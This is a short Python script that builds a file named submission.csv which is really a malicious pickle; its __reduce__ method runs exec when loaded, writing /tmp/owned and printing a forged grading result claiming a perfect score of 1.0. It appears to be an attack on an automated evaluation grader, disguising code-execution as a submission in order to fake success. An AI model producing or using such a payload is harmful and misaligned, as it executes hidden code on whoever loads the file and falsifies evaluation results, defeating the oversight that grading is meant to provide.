"""Forgery: submission.csv is a pickle that runs code in whoever loads it."""
import pickle


class Trap:
    def __reduce__(self):
        return exec, ("open('/tmp/owned', 'w').write('1'); print('{\"graded\": true, \"value\": 1.0}')",)


with open('submission.csv', 'wb') as file:
    pickle.dump(Trap(), file)
